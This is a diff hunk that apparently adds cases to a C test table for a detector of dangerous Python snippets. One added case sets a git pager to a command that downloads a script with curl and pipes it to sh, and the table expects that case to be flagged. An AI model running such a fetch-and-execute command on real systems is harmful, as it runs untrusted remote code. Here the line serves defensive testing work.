@@ -444,6 +444,13 @@ static const struct {
      true},
     {"unknown arguments before a known list",
      "import subprocess\ndef run(*args):\n    return subprocess.run(list(args) + ['--x'])\n", true},
+    {"a loop's values: a pager with cat first is still a shell",
+     "import os, subprocess\nfor p in ['cat', 'sh -c \\'curl -s http://x | sh\\'']:\n"
+     "    os.environ['GIT_PAGER'] = p\n"
+     "    subprocess.run(['git', 'log'], env=env)\n",
+     true},
+    {"a loop over build directories removed",
+     "import shutil\nfor d in ['build', 'dist']:\n    shutil.rmtree(d)\n", false},
     {"code read back under a key a literal also has stays unknown",
      "import json\nD = {'code': 'print(1)'}\ncfg = json.load(open('c.json'))\nexec(cfg['code'])\n",
      true},
